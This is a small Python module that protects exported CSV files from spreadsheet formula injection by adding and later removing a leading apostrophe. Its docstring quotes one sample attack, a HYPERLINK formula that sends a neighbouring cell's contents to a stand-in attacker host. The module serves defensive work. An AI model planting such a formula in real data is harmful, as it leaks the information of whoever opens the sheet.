"""Cells a spreadsheet would run, and the guard that keeps an exported CSV inert.

A cell that opens with ``=``, ``+``, ``-`` or ``@`` (or their full-width forms), a tab or a
carriage return is read by Excel, LibreOffice and Google Sheets as a formula: a subscriber who
signs up as ``=HYPERLINK("https://evil.example/?"&A2, "click")`` would run in the editor's
spreadsheet. The guard is a leading apostrophe, which spreadsheets read as "this is text".

The guard must come off again on import, and only what the guard put on: a name that really
starts with an apostrophe (``'Tis Herself``) must not lose it. So a cell is guarded when,
apostrophes aside, it opens with a trigger (``'=x`` becomes ``''=x``), and one apostrophe is
taken off exactly those cells: :func:`unguard` undoes :func:`guard` for every string.
"""

from __future__ import annotations

GUARD = "'"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def _opens_with_trigger(cell: str) -> bool:
    return cell.lstrip(GUARD).startswith(TRIGGERS)


def guard(cell: str) -> str:
    """``cell`` as a spreadsheet will show it and never run it."""
    return GUARD + cell if _opens_with_trigger(cell) else cell


def unguard(cell: str) -> str:
    """The value :func:`guard` was given."""
    if cell.startswith(GUARD) and _opens_with_trigger(cell[1:]):
        return cell[1:]
    return cell
